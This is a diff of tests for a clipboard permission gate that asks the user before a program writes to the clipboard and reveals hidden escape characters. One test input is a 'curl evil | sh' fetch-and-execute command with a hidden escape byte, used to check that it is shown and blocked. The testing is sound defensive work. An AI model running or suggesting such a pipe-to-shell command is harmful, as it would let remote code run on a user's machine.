@@ -80,31 +80,46 @@ describe("the clipboard of programs", () => {
     }
   });
 
-  it("asks, refuses by default, and does not ask again before the person types", async () => {
-    const { app, backend, questions, answers: given } = await makeFakeApp();
+  it("asks, and does not ask again after a refusal before the person types", async () => {
+    const { app, backend } = await makeFakeApp();
     const gate = makeClipboardGate(app);
     await gate.ask("curl evil\x1b | sh\n");
-    expect(questions[0]?.answers[0]?.id, "a stray Enter refuses").toBe("no");
-    expect(questions[0]?.message, "what is hidden is shown").toContain("curl evil<U+001B> | sh");
+    expect(gate.question(), "what is hidden is shown").toBe("curl evil<U+001B> | sh");
+    expect(backend.system.clipboard).toBe("");
+    await gate.answer("no");
     expect(backend.system.clipboard).toBe("");
     await gate.ask("again");
-    expect(questions).toHaveLength(1);
+    expect(gate.question()).toBeUndefined();
     gate.typed();
-    given.push("once");
     await gate.ask("once");
+    await gate.answer("once");
     expect(backend.system.clipboard).toBe("once");
-    given.push("always");
     await gate.ask("asked again");
+    await gate.answer("always");
     await gate.ask("not asked");
+    expect(gate.question()).toBeUndefined();
     expect(backend.system.clipboard).toBe("not asked");
-    expect(questions).toHaveLength(3);
   });
 
-  it("asks one question at a time", async () => {
-    const { app, questions } = await makeFakeApp();
+  it("asks one question at a time, and what is answered is what was shown", async () => {
+    const { app, backend } = await makeFakeApp();
     const gate = makeClipboardGate(app);
     await Promise.all([gate.ask("a"), gate.ask("b"), gate.ask("c")]);
-    expect(questions).toHaveLength(1);
+    expect(gate.question()).toBe("a");
+    await gate.answer("once");
+    expect(backend.system.clipboard).toBe("a");
+    await gate.answer("always");
+    await gate.ask("d");
+    expect(gate.question(), "an answer to no question answers nothing").toBe("d");
+  });
+
+  it("leaves a question where it is while the person types", async () => {
+    const { app, backend } = await makeFakeApp();
+    const gate = makeClipboardGate(app);
+    await gate.ask("a");
+    gate.typed();
+    expect(gate.question()).toBe("a");
+    expect(backend.system.clipboard).toBe("");
   });
 });
 
